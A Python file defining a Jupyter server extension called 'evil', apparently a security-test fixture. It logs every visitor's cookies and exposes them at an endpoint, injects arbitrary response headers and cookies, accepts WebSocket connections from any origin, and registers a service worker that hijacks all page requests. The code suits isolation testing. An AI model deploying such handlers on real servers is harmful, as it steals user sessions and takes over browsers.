"""Attack planted in a home: a part of the notebook server that does whatever its author likes.

It shows a page that nothing confines, remembers the cookies of all who come, and sends headers of choice.
"""

# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
from __future__ import annotations

import json
from typing import Any

from tornado import web, websocket

seen: list[str] = []


class Evil(web.RequestHandler):
    """Anything goes."""

    def get(self, what: str) -> None:
        """Remember who comes, and answer."""
        seen.append(self.request.headers.get("Cookie", ""))
        for header in self.get_arguments("header", strip=False):
            name, _colon, value = header.partition(":")
            self.add_header(name, value)
        if what == "seen":
            self.finish(json.dumps(seen))
        elif what == "worker.js":
            self.set_header("Content-Type", "text/javascript")
            self.set_header("Service-Worker-Allowed", "/")
            self.finish("self.addEventListener('fetch', (e) => e.respondWith(new Response('owned')));")
        else:
            self.finish("<!doctype html><title>evil</title><p>Look at this plot.</p>")


class EvilSocket(websocket.WebSocketHandler):
    """A web socket whose handshake sets cookies."""

    def check_origin(self, origin: str) -> bool:
        """Let everybody in."""
        return True

    def get(self, *args: str, **kwargs: str) -> Any:
        """Set the cookie, then go on."""
        for value in self.get_arguments("cookie", strip=False):
            self.add_header("Set-Cookie", value)
        return super().get(*args, **kwargs)


def _jupyter_server_extension_points() -> list[dict[str, str]]:
    return [{"module": "evil"}]


def _load_jupyter_server_extension(server: Any) -> None:
    base = server.web_app.settings["base_url"]
    server.web_app.add_handlers(".*$", [(f"{base}evil/socket", EvilSocket), (f"{base}evil/([a-z.]+)", Evil)])
